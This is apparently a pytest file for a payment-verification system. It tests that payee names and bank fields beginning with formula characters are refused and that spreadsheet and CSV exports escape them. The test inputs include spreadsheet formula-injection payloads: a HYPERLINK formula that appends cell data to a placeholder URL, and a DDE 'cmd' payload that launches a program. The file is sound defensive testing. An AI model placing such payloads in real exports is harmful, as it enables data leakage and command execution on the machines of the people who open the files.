"""Text a spreadsheet would run: payee names and banks beginning with = + - @, a tab or a carriage return are refused
wherever a payee is entered; exports meant for people escape such cells; the bank file is not written with one."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from factories import make_case, new_id_number
from openpyxl import load_workbook
from payment_helpers import People, ready_case, tx
from sqlalchemy import select, update

from verifier.checks import service as checks
from verifier.domain.cells import FORMULA_LEADS, escape_cell, formula_cells
from verifier.domain.errors import InvalidState, ValidationFailed
from verifier.domain.income import HouseholdIncome, RigidExpenditure
from verifier.domain.payee import check_payee
from verifier.payments import bankfiles, service
from verifier.payments.models import PaymentBatch, PaymentItem
from verifier.reports.figures import roll_up
from verifier.reports.queries import Period
from verifier.reports.service import assemble
from verifier.web.report_sheet import monthly_xlsx
from verifier.store.tables import Check

BAD = [lead + "SUM(A1)" for lead in FORMULA_LEADS] + ['=HYPERLINK("http://x.example/?"&A1)', "-1+1", "+86"]


@pytest.mark.parametrize("text", BAD)
def test_a_name_or_bank_that_starts_like_a_formula_is_refused(text: str) -> None:
    _, problems = check_payee(text, text, "6228480012345678")
    assert [p.field for p in problems] == ["account_name", "bank"]
    assert all("表格软件会把它当作公式" in p.message for p in problems)


def test_ordinary_names_pass_and_a_sign_inside_a_name_is_no_formula() -> None:
    payee, problems = check_payee(" 王秀英 ", "中国农业银行（城关支行）", "6228 4800 1234 5678")
    assert problems == [] and payee.account_name == "王秀英" and payee.account_number == "6228480012345678"
    assert check_payee("A=B", "X+Y 银行", "6228480012345678")[1] == []


def test_the_payee_change_api_refuses_formula_names(ctx, client, users) -> None:  # type: ignore[no-untyped-def]
    users.add("fin", "finance")
    case_id = ready_case(ctx, head_name="王户主")
    for text in ("=1+1", "@cmd", "\t=1", "\r+1", "-2", "+3"):
        r = client.post(f"/api/cases/{case_id}/payee", headers=users.headers("fin"),
                        json={"account_name": text, "bank": text, "account_number": "6228480012345678",
                              "reason": "x"})
        assert r.status_code == 422, (text, r.text)
        assert {e["field"] for e in r.json()["errors"]} >= {"account_name", "bank"}, text
    with ctx.db.read() as s:
        assert s.scalar(select(PaymentItem.id)) is None


def test_the_home_check_refuses_formula_names(ctx) -> None:  # type: ignore[no-untyped-def]
    from verifier.accounts.auth import principal_of
    from verifier.cases.service import active_visit
    from verifier.store.tables import User

    case_id = make_case(ctx, stage="scheduled")
    with ctx.db.read() as s:
        officers = list(active_visit(s, case_id).officer_ids)
        officer = principal_of(s.get(User, officers[0]))
    data = checks.CheckInput(
        visited_on=ctx.clock.today(), officers=officers,
        members=[{"name": "王户主", "id_number": new_id_number(date(1960, 1, 1)), "relation": "head", "labour": "none"}],
        income=HouseholdIncome(wages=100_000), rigid=RigidExpenditure(medical_self_paid=4_000_000), stable_income=False,
        payee={"account_name": "=HYPERLINK(\"http://x\")", "bank": "@bank", "account_number": "6228480012345678"},
        cross_checks=[], evidence=[], note="")
    with pytest.raises(ValidationFailed) as bad:
        tx(ctx, lambda s: checks.record_check(s, case_id, data, vault=ctx.vault, principal=officer, clock=ctx.clock))
    assert {e.field for e in bad.value.errors} == {"payee.account_name", "payee.bank"}


def test_the_bank_file_is_not_written_with_a_formula_cell(ctx, people: People) -> None:
    ready_case(ctx, head_name="甲户主")
    bad = ready_case(ctx, head_name="乙户主")
    with ctx.db.begin() as s:  # a payee recorded before names were checked
        s.execute(update(Check).where(Check.case_id == bad).values(payee_name='=HYPERLINK("http://x")'))
    batch = tx(ctx, lambda s: service.create_batch(s, county_code="340223", contract_id=None, principal=people.claims,
                                                   clock=ctx.clock))
    tx(ctx, lambda s: service.approve(s, batch.id, principal=people.finance1, vault=ctx.vault, clock=ctx.clock))
    with ctx.db.read() as s:
        line = 1 + s.scalar(select(PaymentItem.seq).where(PaymentItem.batch_id == batch.id, PaymentItem.case_id == bad))
    with pytest.raises(InvalidState, match=f"^银行文件未生成：第 {line} 行「收款人」以公式字符开头") as refused:
        tx(ctx, lambda s: service.release(s, batch.id, principal=people.finance2, vault=ctx.vault, clock=ctx.clock))
    assert str(refused.value).endswith("。请撤销批次，经审批变更收款人后重新制单。"), refused.value  # said by the rule
    with ctx.db.read() as s:  # nothing half done: still approved, items pending, no file
        b = s.get(PaymentBatch, batch.id)
        assert (b.status, b.bank_file_enc) == ("approved", None)
        assert set(s.scalars(select(PaymentItem.status).where(PaymentItem.batch_id == batch.id))) == {"pending"}


def test_people_facing_exports_escape_formula_cells() -> None:
    rows = [("P1000001", "=1+1", "6228480012345678", "@bank", "5.00", "2020年防贫帮困保障金"),
            ("P1000002", "王秀英", "6228480012345679", "农业银行", "6.00", "-memo")]
    text = bankfiles.bank_file_csv(rows).decode()
    cells = list(csv.reader(io.StringIO(text)))
    assert cells[1][1] == "'=1+1" and cells[1][3] == "'@bank" and cells[2][5] == "'-memo" and cells[2][1] == "王秀英"
    assert formula_cells(cells[1:], bankfiles.BANK_FILE_HEADER) == []
    ws = load_workbook(io.BytesIO(bankfiles.bank_file_xlsx(rows))).active
    assert ws["B2"].value == "'=1+1" and ws["B2"].data_type == "s" and ws["F3"].value == "'-memo"
    funds = [{"contract_id": "=cmd|' /C calc'!A0", "budget": "-5.00", "committed": "0.00", "paid": "0.00",
              "service_fee": "0.00", "balance": "0.00"}]
    report = assemble("340223", "=HYPERLINK(1)", Period(date(2020, 1, 1), date(2020, 6, 1), date(2020, 6, 30)), None,
                      roll_up([]), by_status={}, funds=funds, recoveries=None)
    book = load_workbook(io.BytesIO(monthly_xlsx(report)))
    assert book["概要"]["B2"].value == "'=HYPERLINK(1)（340223）"  # a county name as the contract spells it
    fund = book["资金"]
    assert fund["A2"].value == "'=cmd|' /C calc'!A0" and fund["A2"].data_type == "s"
    assert float(fund["B2"].value) == -5.0  # money stays a number
    assert escape_cell(12) == 12 and escape_cell("王") == "王"


def test_a_downloaded_bank_file_released_before_the_check_is_escaped(ctx, people: People) -> None:
    import hashlib

    case_id = ready_case(ctx, head_name="丙户主")
    batch = tx(ctx, lambda s: service.create_batch(s, county_code="340223", contract_id=None, principal=people.claims,
                                                   clock=ctx.clock))
    tx(ctx, lambda s: service.approve(s, batch.id, principal=people.finance1, vault=ctx.vault, clock=ctx.clock))
    tx(ctx, lambda s: service.release(s, batch.id, principal=people.finance2, vault=ctx.vault, clock=ctx.clock))
    old = ('reference,account_name,account_number,bank,amount,memo\r\n'
           'P1,=HYPERLINK("http://x"),6228480012345678,bank,5.00,memo\r\n')
    with ctx.db.begin() as s:  # a file as an earlier version wrote it
        b = s.get(PaymentBatch, batch.id)
        b.bank_file_enc = ctx.vault.seal(old, service.BANK_FILE_COLUMN)
        b.bank_file_sha256 = hashlib.sha256(old.encode()).hexdigest()
    with ctx.db.read() as s:
        given = service.bank_file(s, batch.id, principal=people.finance2, vault=ctx.vault).content.decode()
    assert "'=HYPERLINK" in given and ",=HYPERLINK" not in given
    assert case_id
